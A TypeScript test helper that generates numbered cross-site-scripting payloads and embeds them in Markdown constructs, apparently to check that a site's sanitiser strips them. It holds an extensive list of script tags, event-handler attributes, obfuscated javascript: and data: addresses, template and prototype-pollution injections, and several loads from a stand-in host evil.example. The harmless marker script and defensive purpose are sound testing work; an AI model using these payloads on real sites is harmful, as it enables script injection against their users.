/** Texts and Markdown that try to run a script, each with a number of its own. */
import type { Random } from '../../support/values/random.ts';

/** Name of the property that every payload sets to its number. */
export const MARK = '__ran';

/** JavaScript that sets the mark to a number, in the outermost page. */
const scriptOf = (number: number): string => `top.${MARK}=${number}`;

type Payload = (script: string) => string;

const inBase64 = (text: string): string => Buffer.from(text).toString('base64');
const asEntities = (text: string): string => text.replace(/[\s\S]/g, (one) => `&#${one.charCodeAt(0)};`);

/** Markup, and ends of what the text may be within. */
const MARKUP: readonly Payload[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT\n>${js}</SCRIPT\n>`,
  (js) => `<scr<script>ipt>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</style><script>${js}</script><style>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</textarea></template></noscript></select><img src=x onerror="${js}">`,
  (js) => `--><script>${js}</script><!--`,
  (js) => `<!--><img src=x onerror="${js}">-->`,
  (js) => `]]><script xmlns="http://www.w3.org/1999/xhtml">${js}</script><![CDATA[`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  (js) => `"><svg onload="${js}">`,
  (js) => `'><svg onload="${js}">`,
  (js) => `" onmouseover="${js}" x="`,
  (js) => `' autofocus onfocus="${js}" x='`,
  (js) => `x onclick=${js}`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<math><mtext><mglyph><style></math><img src=x onerror="${js}">`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<object data="data:text/html;base64,${inBase64(`<script>${js}</script>`)}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<button formaction="javascript:${js}" form=x>x</button>`,
  (js) => `<details open ontoggle="${js}">x</details>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
  (js) => `<base href="//evil.example/"><!--${js}-->`,
  (js) => `<script src="//evil.example/x.js">${js}</script>`,
  (js) => `<link rel=stylesheet href="//evil.example/x.css?${js}">`,
  (js) => `<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) } /*${js}*/</style>`,
  (js) => `x;} * { background: url("//evil.example/z?${js}") }`,
  (js) => `<img src="//evil.example/i.png?${js}">`,
];

/** Template syntax, escapes of other languages, and characters that deceive. */
const SYNTAX: readonly Payload[] = [
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `{${js}}`,
  (js) => `";${js};//`,
  (js) => `';${js};//`,
  (js) => `\`-${js}-\``,
  (js) => `\\";${js};//`,
  (js) => `$'<img src=x onerror="${js}">`,
  (js) => `$&$1</script><script>${js}</script>`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `\\x3cimg src=x onerror=${js}\\x3e`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&#60;img src=x onerror=&#34;${js}&#34;&#62;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `\u202e<script>${js}</script>\u202c`,
  (js) => `\u2066"><script>${js}</script>\u2069`,
  (js) => `<s\u200bcript>${js}</script>`,
  (js) => `"__proto__":{"html":"<img src=x onerror=${js}>"}`,
  (js) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}`,
];

export const TEXTS: readonly Payload[] = [...MARKUP, ...SYNTAX];

/** Addresses; some of them are allowed, and end the attribute or the JSON that contains them. */
const ADDRESSES: readonly Payload[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\u00a0javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\u00adscript:${js}`,
  (js) => `\u202ejavascript:${js}`,
  (js) => `ｊavascript:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `${asEntities('javascript:')}${js}`,
  (js) => `&#x6A;&#x61;vascript:${js}`,
  (js) => `java&Tab;script&colon;${js}`,
  (js) => `&#1;javascript:${js}`,
  (js) => `javascript%3A${js}`,
  (js) => `%6Aavascript:${js}`,
  (js) => `java\\script:${js}`,
  (js) => `javascript\\:${js}`,
  (js) => `javascript://x%0A${js}`,
  (js) => `javascript:/*--></title></style></script>*/${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `livescript:${js}`,
  (js) => `blob:javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `DATA:text/html;base64,${inBase64(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  (js) => `data:,${js}`,
  (js) => `//evil.example/${js}`,
  (js) => `\\\\evil.example/${js}`,
  (js) => `/\\evil.example/${js}`,
  (js) => `/" onmouseover="${js}`,
  (js) => `#" onmouseover="${js}`,
  (js) => `/?a='><script>${js}</script>`,
  (js) => `https:javascript:${js}`,
  (js) => `https://contoh.example/?a='-${js}-'`,
  (js) => `https://contoh.example/?a=${js}&colon;`,
  (js) => `https://contoh.example/"><script>${js}</script>`,
  (js) => `https://contoh.example/${encodeURIComponent(`"><script>${js}</script>`)}`,
  (js) => `https://contoh.example/#javascript:${js}`,
  (js) => `https://images.unsplash.com/photo-1?a=" onerror="${js}`,
  (js) => `https://images.unsplash.com/photo-1?a=${encodeURIComponent(`' onerror='${js}`)}`,
  (js) => `https://images.unsplash.com/photo-1, javascript:${js} 2x`,
  (js) => `mailto:a@b.example?subject="onclick="${js}`,
  (js) => `mailto:${js}`,
  (js) => `tel:+62<img src=x onerror="${js}">`,
];

/** A picture of the site. */
const PICTURE = 'images/piring.png';

/** Places in Markdown, each with a text or an address. Texts have one line. */
const TEXT_PLACES: readonly ((text: string, number: number) => string)[] = [
  (text) => text,
  (text) => `Kata ${text} kata.`,
  (text) => `## ${text}`,
  (text) => `${text}\n---`,
  (text) => `- ${text}\n- Lain.`,
  (text) => `1. ${text}\n2. Lain.`,
  (text) => `- [ ] ${text}`,
  (text) => `> ${text}`,
  (text) => `**${text}**`,
  (text) => `_${text}_`,
  (text) => `~~${text}~~`,
  (text) => `\`\`${text}\`\``,
  (text) => `\`\`\`${text.replaceAll('`', '')}\n${text}\n\`\`\``,
  (text) => `~~~ ${text}\n${text}\n~~~`,
  (text) => `    ${text}`,
  (text) => `| A | B |\n| --- | :-: |\n| ${text.replaceAll('|', '')} | b |`,
  (text) => `| ${text.replaceAll('|', '')} | B |\n| --- | --- |\n| a | b |`,
  (text) => `[${text.replaceAll(/[[\]]/g, '')}](/kontak/)`,
  (text) => `Kata [kata](/kontak/ '${text.replaceAll("'", '"')}') kata.`,
  (text) => `Kata [kata](/kontak/ "${text.replaceAll('"', "'")}") kata.`,
  (text) => `![${text.replaceAll(/[[\]]/g, '')}](${PICTURE})`,
  (text) => `![Piring.](${PICTURE} "${text.replaceAll('"', "'")}")`,
  (text, number) => `Kata [kata][r${number}] kata.\n\n[r${number}]: /kontak/ "${text.replaceAll('"', "'")}"`,
  (text) => `::: ${text}\n\nKata.\n\n:::`,
  (text) => `<div>${text}</div>`,
  (text) => `<!-- ${text} -->`,
  (text) => `\\${text}`,
  (text) => `Kata.[^1]\n\n[^1]: ${text}`,
];

const ADDRESS_PLACES: readonly ((address: string, number: number) => string)[] = [
  (address) => `Kata [kata](${address}) kata.`,
  (address) => `Kata [kata](<${address}>) kata.`,
  (address) => `Kata <${address}> kata.`,
  (address) => `Kata ${address} kata.`,
  (address, number) => `Kata [kata][s${number}] kata.\n\n[s${number}]: ${address}`,
  (address, number) => `Kata [kata][s${number}] kata.\n\n[s${number}]: <${address}>`,
  (address) => `![Piring.](${address})`,
  (address) => `![Piring.](<${address}>)`,
  (address) => `[![Piring.](${PICTURE})](${address})`,
  (address) => `<a href="${address}">kata</a>`,
];

/** @returns a source of payloads: each kind is given in turn, and places and kinds are paired differently each time */
export function hostileTexts({ below, of }: Random) {
  // As many digits in each, so that none is part of another.
  const first = 1_000_001;
  let count = 0;
  const turns = { text: below(TEXTS.length), address: below(ADDRESSES.length) };
  const next = (kind: keyof typeof turns, payloads: readonly Payload[]) => {
    const number = first + count;
    count += 1;
    turns[kind] += 1;
    const payload = payloads[turns[kind] % payloads.length] as Payload;
    return { number, text: payload(scriptOf(number)) };
  };
  const text = () => next('text', TEXTS);
  const address = () => next('address', ADDRESSES);
  /** A part of a Markdown body. */
  const block = (): string => {
    if (below(3) === 0) {
      const { number, text: one } = address();
      return of(ADDRESS_PLACES)(one, number);
    }
    const { number, text: one } = text();
    return of(TEXT_PLACES)(one.replaceAll('\n', ' '), number);
  };
  /** @returns how many payloads were made, and how many of them are in a text, in a form that keeps their number */
  const countIn = (published: string): { made: number; found: number } => {
    const numbers = new Set(published.match(/(?<!\d)1\d{6}(?!\d)/g)?.map(Number));
    return { made: count, found: [...numbers].filter((one) => one >= first && one < first + count).length };
  };
  return { text: () => text().text, address: () => address().text, block, countIn };
}
